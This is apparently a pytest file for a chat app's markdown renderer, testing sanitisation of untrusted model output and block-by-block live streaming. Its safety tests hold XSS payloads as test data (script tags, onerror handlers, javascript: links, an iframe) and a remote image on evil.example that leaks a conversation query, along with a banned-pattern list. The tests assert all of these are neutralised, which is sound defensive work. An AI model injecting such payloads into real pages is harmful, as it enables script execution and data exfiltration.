"""Markdown rendering: untrusted model output made safe, and the live stream rendered block by block."""

from __future__ import annotations

import random
import re
import threading
import time
from typing import Any

import pytest

from chat.models import Message
from chat.streaming.live import TEXT, THINKING, LiveReply
from chat.streaming.providers.demo import REPLY, pieces
from chat.streaming.relay import FRAME_SECONDS, LiveView
from chat.streaming.rendering import RENDER_SECONDS, RENDER_SLACK, LiveMarkdown, render_markdown, sanitize
from tests.conftest import parse_stream
from tests.fake_upstream import DEFAULT_TEXT
from tests.sample_replies import CONTENTS, reply_text

CORPUS = [
    REPLY.format(question="What is this?"),
    DEFAULT_TEXT,
    "1. First\n\n2. Second\n\n10. Tenth\n\nAfter\n\n- a\n- b\n\n* c\n\nFoo\n***\nbar\n\nBaz\n---\n\n"
    "> q\n>\n> q2\n\n> r\n\n    indented code\n\n    more code\n\nend",
    "Intro:\r\n\r\n```js\r\nlet a = 1;\r\n\r\nlet b = 2;\r\n```\r\n\r\n"
    "| h | i |\r\n|---|--:|\r\n| 1 | 2 |\r\nno pipe\r\n\r\ndone",
    "- a\n\n  continued\n\n- b\n\n   - nested\n\n     deeper\n\ntext\n\n1) x\n2) y\n\n3) z\n\n# H\n## H2\nline\n===\n",
    '**bold that never closes\n\n`code\n\n[link](https://example.com "t") <https://example.com/auto>\n\n'
    + "word " * 200,
    '<img src=x onerror="alert(1)">\n\n![x](https://evil.example/?q=1)\n\n[j](javascript:alert(1))\n\n<script>x</script>',
]


def stream_into(markdown: LiveMarkdown, text: str, rng: random.Random) -> list[str]:
    """Feed `text` in random small pieces at random moments, rendering whenever a render is due; the
    blocks the page ends with (those sent, and those kept from the tail it had)."""
    frozen, tail, i, now = [], "", 0, 0.0
    while i < len(text) or tail:
        if i < len(text):
            size = rng.randint(1, 8)
            markdown.feed(text[i : i + size])
            i = min(i + size, len(text))
            now += rng.random() * 0.1
        if i == len(text) or markdown.due(now):
            finished, tail = markdown.flush(final=i == len(text), now=now).apply(tail)
            frozen.append(finished)
    return frozen


# --- safety ---------------------------------------------------------------------------------------


def test_raw_html_in_model_output_is_shown_as_text() -> None:
    html = render_markdown('<img src=x onerror="alert(1)">\n\n<script>alert(2)</script> <b>bold?</b>')
    assert "<img" not in html and "<script" not in html and "<b>" not in html
    assert '&lt;img src=x onerror="alert(1)"&gt;' in html and "&lt;script&gt;" in html


@pytest.mark.parametrize(
    "link",
    ["[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>)", "<javascript:alert(1)>"],
)
def test_javascript_and_data_links_are_neutralised(link: str) -> None:
    html = render_markdown(link)
    assert not re.search(r'href="\s*(javascript|data):', html, re.IGNORECASE)


def test_a_remote_image_becomes_a_link_and_never_an_img() -> None:
    html = render_markdown("![secret](https://evil.example/p.png?q=conversation)")
    assert "<img" not in html
    assert '<a href="https://evil.example/p.png?q=conversation" class="image-link"' in html
    assert 'rel="noopener noreferrer nofollow"' in html and ">Image: secret</a>" in html


def test_links_open_apart_and_carry_no_referrer() -> None:
    html = render_markdown("[docs](https://example.com/docs)")
    assert html.strip() == (
        '<p><a href="https://example.com/docs" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>'
    )


def test_the_sanitiser_strips_what_the_renderer_would_never_make() -> None:
    dirty = (
        '<img src=x onerror=alert(1)><script>alert(2)</script><a href="javascript:alert(3)" onclick="x()">a</a>'
        '<p style="color:red" hx-get="/chat/" hx-trigger="load">p</p><iframe src="https://evil.example"></iframe>'
    )
    clean = sanitize(dirty)
    for banned in ("<img", "<script", "javascript:", "onclick", "onerror", "style=", "hx-", "<iframe"):
        assert banned not in clean


def test_table_alignment_is_a_class_because_the_policy_forbids_inline_styles() -> None:
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert "style=" not in html
    assert '<th class="align-left">a</th>' in html and '<td class="align-center">2</td>' in html
    assert '<td class="align-right">3</td>' in html


def test_a_code_block_is_highlighted_labelled_and_has_a_copy_button() -> None:
    html = render_markdown('```python\nprint("<hi>")\n```')
    assert '<span class="code-lang">python</span>' in html
    assert '<button type="button" class="copy-code" aria-label="Copy code">Copy</button>' in html
    assert '<code class="language-python"><span class="nb">print</span>' in html
    assert "&lt;hi&gt;" in html


def test_an_unknown_or_odd_language_is_plain_escaped_code() -> None:
    html = render_markdown('```no-such-language" onload="x\n<b>x</b>\n```')
    assert '<span class="code-lang">text</span>' in html
    assert "<code>&lt;b&gt;x&lt;/b&gt;\n</code>" in html and "onload" not in html


# --- the live stream ------------------------------------------------------------------------------


FENCES = [
    "Intro\n\n```python\nx = 1\n\ny = 2\n```\nright after the fence\n\n~~~\nplain\n~~~~\n\n"
    "```\nnever closed\n\nstill code",
    "- x\n\n  ```\n  in a list\n  ```\n- y\n\n````md\n```\nnot the end\n````\n``` not a fence ``` x\n",
]


@pytest.mark.parametrize("text", CORPUS + FENCES)
def test_the_blocks_streamed_add_up_to_the_stored_render_however_the_text_is_split(text: str) -> None:
    rng = random.Random(text[:20])
    for _ in range(100):
        assert "".join(stream_into(LiveMarkdown(), text, rng)) == render_markdown(text)


def test_a_finished_block_is_frozen_once_and_only_the_open_block_is_rendered_again() -> None:
    markdown = LiveMarkdown()
    markdown.feed("# Title\n\nFirst paragraph.\n\n- A list\n\nSecond")
    blocks, tail = markdown.flush().apply("")
    # A blank line ends a heading or a paragraph for good; a list may go on (the line "Second" is not complete
    # yet: it could still be "  Second", the item's next paragraph).
    assert blocks == "<h1>Title</h1>\n<p>First paragraph.</p>\n"
    assert tail == "<ul>\n<li>A list</li>\n</ul>\n<p>Second</p>\n"
    markdown.feed(" paragraph,\nstill open ")
    render = markdown.flush()
    # The list is final as it was last rendered, and the open paragraph starts as it did: neither is sent again.
    assert (render.same, render.html) == (
        len("<ul>\n<li>A list</li>\n</ul>\n<p>Second"),
        " paragraph,\nstill open</p>\n",
    )
    assert render.apply(tail) == ("<ul>\n<li>A list</li>\n</ul>\n", "<p>Second paragraph,\nstill open</p>\n")
    assert render.rest == " "  # dropped by the render; the page keeps it before the next word


def test_a_numbered_list_with_blank_lines_is_not_frozen_before_the_next_item_is_known() -> None:
    markdown = LiveMarkdown()
    markdown.feed("1. One\n\n2")  # `2` may still become `2.`, the same (now loose) list
    blocks, tail = markdown.flush().apply("")
    assert blocks == ""
    markdown.feed(". Two\n\nAfter the list\n")
    assert markdown.flush().apply(tail) == (
        "<ol>\n<li>\n<p>One</p>\n</li>\n<li>\n<p>Two</p>\n</li>\n</ol>\n",
        "<p>After the list</p>\n",
    )


def test_a_render_sends_what_changed_in_utf16_code_units_as_the_page_counts() -> None:
    markdown = LiveMarkdown()
    markdown.feed("Emoji 🎉 and *mo")
    tail = markdown.flush().apply("")[1]
    markdown.feed("re*")
    render = markdown.flush()
    assert render.same == len("<p>Emoji 🎉 and ") + 1  # the emoji is two code units in JavaScript
    assert render.apply(tail)[1] == "<p>Emoji 🎉 and <em>more</em></p>\n"


def test_plain_words_need_no_render_and_markdown_syntax_gets_one_on_the_cadence() -> None:
    markdown = LiveMarkdown()
    markdown.feed("Hello")
    assert markdown.due(0.0)  # a block starts: the page gets its paragraph at once
    tail = markdown.flush(now=0.0).apply("")[1]
    markdown.feed(" there, how are you")
    assert not markdown.due(5.0)  # the page shows these words as the render would
    markdown.feed(" **to")
    assert not markdown.due(RENDER_SECONDS / 2) and markdown.render_in(RENDER_SECONDS / 2) == RENDER_SECONDS / 2
    assert markdown.due(RENDER_SECONDS)
    tail = markdown.flush(now=RENDER_SECONDS).apply(tail)[1]
    assert tail == "<p>Hello there, how are you **to</p>\n"
    markdown.feed("day**?")
    render = markdown.flush(now=1.0)
    assert render.html == "<strong>today</strong>?</p>\n"  # after what did not change
    assert render.apply(tail)[1] == "<p>Hello there, how are you <strong>today</strong>?</p>\n"


def test_an_open_code_block_is_plain_text_until_it_closes_and_then_highlighted_once() -> None:
    markdown = LiveMarkdown()
    markdown.feed("Code:\n\n```python\n")
    assert markdown.due(0.0)
    render = markdown.flush(now=0.0)
    blocks, tail = render.apply("")
    assert blocks == "<p>Code:</p>\n"  # the fence's first line is complete: the paragraph is final
    assert '<code class="language-python"></code>' in tail and render.rest == ""
    for line in ["def f(x):\n", "    return x  # <b>\n", "\n", "print(f(1))\n"]:
        markdown.feed(line)
        assert not markdown.due(100.0)  # the page appends the code as it comes; it is what a render shows
    markdown.feed("```")
    assert not markdown.due(100.0)  # "```" could still be "``` x", a line of code
    markdown.feed("\nAfter")
    assert markdown.due(100.0)
    blocks, tail = markdown.flush(now=100.0).apply(tail)
    assert blocks.count('<span class="k">def</span>') == 1 and "&lt;b&gt;" in blocks
    assert tail == "<p>After</p>\n"


def test_an_open_code_blocks_render_is_its_text_as_sent() -> None:
    markdown = LiveMarkdown()
    markdown.feed("```js\nlet a = 1;  \nlet b")
    tail = markdown.flush().apply("")[1]
    assert tail.endswith('<pre><code class="language-js">let a = 1;  \nlet b</code></pre></div>\n')


@pytest.mark.parametrize(
    "text",
    [
        "```python\n" + "".join(f"x{i} = {i}\n" for i in range(1500)) + "```\n",  # one huge block
        "".join(f"- item {i} with `code`\n" for i in range(1500)),  # one long list, never followed by anything
        "| a | b |\n|---|---|\n" + "".join(f"| {i} | **{i}** |\n" for i in range(800)),  # one long table
        "".join(f"Paragraph {i} with *some* words.\n\n" for i in range(600)),
    ],
)
def test_the_rendering_work_and_bytes_stay_linear_in_the_replys_length(text: str) -> None:
    markdown, now, html = LiveMarkdown(), 0.0, 0
    for piece in pieces(text):
        markdown.feed(piece)
        now += 1.0  # worst case: the cadence never holds a render back
        if markdown.due(now):
            html += len(markdown.flush(now=now).html)
    html += len(markdown.flush(final=True).html)
    # Parsed a few times at most (a block when it starts, when its first line completes, and on the cadence while
    # the one before it is not yet final); and sent once, and a little more (a render sends what changed).
    assert markdown.work <= 4 * len(text) + RENDER_SLACK
    assert html <= 1.5 * len(render_markdown(text)) + RENDER_SLACK


class FakeLiveReply(LiveReply):
    def stop(self, reason: str) -> None:
        pass


def live_reply(pk: int = 7) -> FakeLiveReply:
    return FakeLiveReply(Message(pk=pk))


def events_of(chunk: str) -> list[tuple[str, str, str]]:
    """(event, data, id) of each event in `chunk`, as EventSource hands them to the page."""
    return [(e.event, e.data, e.id) for e in parse_stream(chunk)]


def test_text_goes_out_as_it_came_and_a_render_event_brings_the_markdown() -> None:
    reply = live_reply()
    reply.extend(["# Hi\n\n", "<b>x</b>\nand "], bytes([TEXT, TEXT]))
    view = LiveView(reply, resume_from=0)
    assert events_of(view.delta_events(start=0, end=2, final=False)) == [
        ("message", "# Hi\n\n<b>x</b>\nand ", "2"),  # the page inserts it as text: it is never parsed as HTML
        (
            "render",
            # The first render replaces what the page had: 12 characters of finished blocks, then the tail.
            '{"same":0,"cut":12,"replace":true,"rest":" "}\n<h1>Hi</h1>\n<p>&lt;b&gt;x&lt;/b&gt;\nand</p>\n',
            "",  # moves no part: the browser's Last-Event-ID stays a part count
        ),
    ]
    reply.extend(["more"], bytes([TEXT]))
    assert events_of(view.delta_events(start=2, end=3, final=False, now=9.0)) == [("message", "more", "3")]
    reply.extend(["\n\nNext\n"], bytes([TEXT]))
    assert events_of(view.delta_events(start=3, end=4, final=False, now=9.0))[1] == (
        "render",
        '{"same":27,"cut":37,"rest":"\\n"}\n more</p>\n<p>Next</p>\n',  # after "<p>&lt;b&gt;x&lt;/b&gt;\nand"
        "",
    )
    # The last render's tail is final as it was: it is kept, and nothing is sent again.
    assert events_of(view.delta_events(start=4, end=4, final=True)) == [("render", '{"same":12,"cut":12}\n', "5")]


def test_a_connection_that_resumes_re_renders_once_and_sends_only_the_new_text() -> None:
    reply = live_reply()
    reply.extend(["Para one.\n\n", "Para two\n"], bytes([TEXT, TEXT]))
    view = LiveView(reply, resume_from=1)
    assert events_of(view.delta_events(start=1, end=2, final=False)) == [
        ("message", "Para two\n", "2"),  # the raw text from part 1 on only, but the blocks the page has are replaced
        (
            "render",
            '{"same":0,"cut":17,"replace":true,"rest":"\\n"}\n<p>Para one.</p>\n<p>Para two</p>\n',
            "",
        ),
    ]


def test_thinking_is_plain_escaped_text_and_a_fresh_connection_replaces_what_the_page_had() -> None:
    reply = live_reply()
    reply.extend(["<think>", "ing"], bytes([THINKING, THINKING]))
    fresh = LiveView(reply, resume_from=0).delta_events(start=0, end=2, final=False)
    assert fresh == 'id:2\nevent:thinking\ndata:&lt;think&gt;ing<div hx-swap-oob="innerHTML:#thinking-7"></div>\n\n'
    resumed = LiveView(reply, resume_from=1).delta_events(start=1, end=2, final=False)
    assert resumed == "id:2\nevent:thinking\ndata:ing\n\n"


async def test_a_long_render_runs_off_the_event_loop(monkeypatch: pytest.MonkeyPatch) -> None:
    threads = []
    monkeypatch.setattr(LiveMarkdown, "flush", record_thread(LiveMarkdown.flush, threads))
    reply = live_reply()
    reply.extend(["word " * 2000], bytes([TEXT]))
    view = LiveView(reply, resume_from=0)
    await view.events(start=0, end=1, final=False, now=0.0)
    reply.extend(["**x**"], bytes([TEXT]))
    await view.events(start=1, end=2, final=True, now=1.0)
    small = LiveView(live_reply(), resume_from=0)
    small.generation.extend(["*short*"], bytes([TEXT]))
    await small.events(start=0, end=1, final=True, now=0.0)
    main = threading.main_thread()
    assert [thread is main for thread in threads] == [False, False, True]


def record_thread(method: Any, threads: list[threading.Thread]) -> Any:
    def recorded(*args: Any, **kwargs: Any) -> Any:
        threads.append(threading.current_thread())
        return method(*args, **kwargs)

    return recorded


# --- measured, not asserted -----------------------------------------------------------------------


def long_reply(tokens: int = 4000) -> list[str]:
    body = REPLY.format(question="How does streaming work?") + "\n"
    return pieces(body * (tokens // len(pieces(body)) + 1))[:tokens]


def drive(tokens: list[str], rate: float | None) -> tuple[float, int, LiveView]:
    """CPU seconds and bytes of LiveView (render, sanitise, encode) for `tokens` as the relay drives it: at
    most one event per FRAME_SECONDS at `rate` tokens a second, or, worst case, one event per token."""
    reply, sent, last_event, sent_bytes, now = live_reply(), 0, -1.0, 0, 0.0
    view = LiveView(reply, resume_from=0)
    started = time.process_time()
    for index, token in enumerate(tokens, 1):
        reply.extend([token], bytes([TEXT]))
        now = index / (rate or 50)
        if rate and now - last_event < FRAME_SECONDS:
            continue  # the relay sleeps out the rest of the frame; tokens pile up meanwhile
        sent_bytes += len(view.delta_events(start=sent, end=index, final=False, now=now).encode())
        sent, last_event = index, now
    sent_bytes += len(view.delta_events(start=sent, end=len(tokens), final=True, now=now).encode())
    return time.process_time() - started, sent_bytes, view


def test_rendering_cost_per_token_of_a_4000_token_reply(capsys: pytest.CaptureFixture[str]) -> None:
    """Prints the CPU time per token and the bytes sent against the final HTML for the demo's 4,000-token
    reply, one event per token and in frames, and for the benchmark's three contents at 50 tokens a second."""
    replies = [(f"demo, {rate or 'one event per'} tokens/s", long_reply(), rate) for rate in (None, 50, 100)]
    replies += [(f"{content}, 50 tokens/s", pieces(reply_text(content, 2000)), 50) for content in CONTENTS]
    for label, tokens, rate in replies:
        spent, sent_bytes, view = drive(tokens, rate)
        chars = sum(map(len, tokens))
        final_html = len(render_markdown("".join(tokens)).encode())
        with capsys.disabled():
            print(
                f"\n{label}: {len(tokens)} tokens ({chars:,} chars): {spent * 1e6 / len(tokens):.0f} µs/token, "
                f"{spent * 1000:.0f} ms in all; parsed {view.markdown.work / chars:.1f}× the text; "
                f"sent {sent_bytes / final_html:.2f}× the final HTML ({final_html:,} bytes)"
            )
        assert view.markdown.work <= 3 * chars + RENDER_SLACK
